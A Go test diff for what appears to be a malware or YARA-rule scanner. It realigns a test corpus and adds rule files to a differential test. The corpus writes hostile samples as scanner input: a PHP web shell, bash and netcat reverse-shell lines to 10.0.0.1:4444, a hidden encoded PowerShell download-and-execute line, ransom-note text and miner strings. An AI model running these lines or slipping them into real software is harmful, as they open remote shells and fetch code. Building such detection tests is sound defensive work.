@@ -62,16 +62,16 @@ func writeCorpus(t testing.TB, dir string) {
 		"random.bin":  random,
 		"js.html": []byte(`<html><script>eval(atob("ZG9jdW1lbnQud3JpdGUo")); document.write('<script src=x>');
 var s = unescape("%u9090%u9090\x41\x42"); new ActiveXObject("WScript.Shell"); String.fromCharCode(72,101);</script></html>`),
-		"shell.php":   []byte(`<?php @eval($_POST['cmd']); system($_GET["c"]); echo base64_decode("aGVsbG8="); ?>`),
-		"rev.sh":      []byte("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nnc -e /bin/sh 10.0.0.1 4444\n"),
-		"ps.ps1":      []byte("powershell.exe -NoP -w hidden -enc SQBFAFgA\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\n"),
-		"hexes.bin":   []byte{0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xe8, 0x00, 0x00, 0x00, 0x00, 0x5d, 0xc3, 0xcc, 0xcc, 0x6a, 0x40, 0x68, 0x00, 0x30, 0x00, 0x00, 0xff, 0x15, 0xeb, 0xfe, 0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68},
-		"bytes.bin":   allBytes(),
-		"nested.txt":  []byte("aaa bbb ccc aaa bbb aaa 123 456 789 abcabcabc xyz"),
-		"ransom.txt":  []byte("All your files have been encrypted! To decrypt them send bitcoin to our wallet. Contact us via Tor.\nYOUR_FILES_ARE_ENCRYPTED.txt"),
-		"mixed.bin":   append(append([]byte("MZ"), make([]byte, 58)...), []byte("stratum+tcp://pool.minexmr.com:4444 xmrig VirtualAllocEx WriteProcessMemory CreateRemoteThread")...),
-		"nul.bin":     make([]byte, 4096),
-		"ff.bin":      bytes.Repeat([]byte{0xff}, 300),
+		"shell.php":  []byte(`<?php @eval($_POST['cmd']); system($_GET["c"]); echo base64_decode("aGVsbG8="); ?>`),
+		"rev.sh":     []byte("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nnc -e /bin/sh 10.0.0.1 4444\n"),
+		"ps.ps1":     []byte("powershell.exe -NoP -w hidden -enc SQBFAFgA\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\n"),
+		"hexes.bin":  []byte{0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xe8, 0x00, 0x00, 0x00, 0x00, 0x5d, 0xc3, 0xcc, 0xcc, 0x6a, 0x40, 0x68, 0x00, 0x30, 0x00, 0x00, 0xff, 0x15, 0xeb, 0xfe, 0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68},
+		"bytes.bin":  allBytes(),
+		"nested.txt": []byte("aaa bbb ccc aaa bbb aaa 123 456 789 abcabcabc xyz"),
+		"ransom.txt": []byte("All your files have been encrypted! To decrypt them send bitcoin to our wallet. Contact us via Tor.\nYOUR_FILES_ARE_ENCRYPTED.txt"),
+		"mixed.bin":  append(append([]byte("MZ"), make([]byte, 58)...), []byte("stratum+tcp://pool.minexmr.com:4444 xmrig VirtualAllocEx WriteProcessMemory CreateRemoteThread")...),
+		"nul.bin":    make([]byte, 4096),
+		"ff.bin":     bytes.Repeat([]byte{0xff}, 300),
 	}
 	for name, b := range files {
 		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
@@ -194,6 +194,11 @@ func TestDifferential(t *testing.T) {
 		t.Fatal(err)
 	}
 	files = append(files, gen)
+	def, err := filepath.Glob("../rules/*.yar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	files = append(files, def...)
 	total := 0
 	for _, f := range files {
 		t.Run(filepath.Base(f), func(t *testing.T) {
